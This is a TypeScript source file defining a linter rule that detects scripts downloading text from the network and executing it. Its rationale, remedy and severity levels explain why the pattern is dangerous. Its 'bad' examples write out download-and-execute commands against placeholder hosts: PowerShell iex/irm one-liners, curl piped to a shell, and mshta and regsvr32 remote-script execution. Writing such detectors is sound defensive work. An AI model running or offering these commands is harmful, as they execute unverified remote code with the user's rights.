import { addressOf, bareHostOf, isHostOf, isLocalHost } from '../../facts/download/address';
import { defineRule, examples } from '../rule';

export default defineRule({
  name: 'download/download-and-execute',
  title: 'Text from the network is run as code',
  severity: 'high',
  confidence: 'high',
  cwe: [494, 95],
  tags: ['supply-chain', 'download'],
  fixable: false,
  messages: {
    code: '`{by}` runs what `{host}` answers, unseen and unchecked.',
    unknown: {
      severity: 'medium',
      text: '`{by}` runs what an address answers that is known only at run time, unchecked.',
    },
    bootstrap: {
      severity: 'low',
      text: '`{by}` runs the installer of `{host}` as it is today: the same script gives another result tomorrow.',
    },
  },
  rationale: `
    Whoever controls the server, its name or the way to it runs any code with the rights of the script, and nothing is left
    on disk to look at. The usual installers of package managers do the same; they at least have someone who watches.`,
  remedy: `
    Download a release to a file, compare its hash, and run the file; or keep the script in the repository.`,
  references: [
    'https://attack.mitre.org/techniques/T1059/001/',
    'https://learn.microsoft.com/powershell/scripting/security/preventing-script-injection',
  ],
  options: {
    bootstrapHosts: {
      default: ['chocolatey.org', 'get.scoop.sh', 'aka.ms', 'dot.net', 'boxstarter.org'],
      description: 'Hosts, and all below them, whose installers are usually run this way.',
    },
  },
  bad: [
    { language: 'powershell', code: "iex («(New-Object Net.WebClient).DownloadString('https://example.test/a.ps1')»)" },
    { language: 'powershell', code: '«Invoke-RestMethod https://example.test/a.ps1» | Invoke-Expression' },
    { language: 'powershell', code: '$s = «irm https://example.test/a.ps1»\nInvoke-Expression $s' },
    { language: 'powershell', code: '& ([scriptblock]::Create((«irm https://example.test/a.ps1»))) -Quiet' },
    { language: 'powershell', code: '. { «iwr -UseBasicParsing https://example.test/a.ps1» } | iex' },
    {
      language: 'dockerfile',
      code: "FROM debian:12\nRUN «curl --proto '=https' --tlsv1.2 -sSf https://sh.example.test» | sh -s -- -y\n",
    },
    { language: 'powershell', code: 'iex ((«iwr $url -UseBasicParsing»).Content)' },
    { language: 'powershell', code: 'iex "& { $(«irm get.scoop.sh») } -RunAsAdmin"' },
    {
      language: 'powershell',
      code: "iex («(New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1')»)",
    },
    { language: 'cmd', code: '«mshta https://example.test/a.hta»' },
    { language: 'cmd', code: '«regsvr32 /s /n /u /i:https://example.test/a.sct scrobj.dll»' },
    { language: 'dockerfile', code: 'FROM debian:12\nRUN «curl -fsSL https://example.test/a.sh» | bash\n' },
  ],
  good: examples(
    'powershell',
    'Invoke-RestMethod https://example.test/version | Out-Null',
    "iex 'Get-Date'",
    'Write-Host "iex (irm https://example.test/a.ps1)"',
    '$v = irm https://example.test/version\niex "tool --version"',
    'iex (irm http://localhost:8000/a.ps1)',
  ),
  visit: {
    download({ url, evaluated, verified, span }, { report, options }) {
      if (!evaluated || verified) return;
      const host = addressOf(url)?.host ?? bareHostOf(url);
      const { by } = evaluated;
      const more = { related: [{ span: evaluated.span, message: 'It is run here.' }] };
      if (host === undefined) report('unknown', span, { by }, { ...more, confidence: 'medium' });
      else if (isLocalHost(host)) return;
      else if (options.bootstrapHosts.some(it => isHostOf(host, it))) report('bootstrap', span, { by, host }, more);
      else report('code', span, { by, host }, more);
    },
  },
});
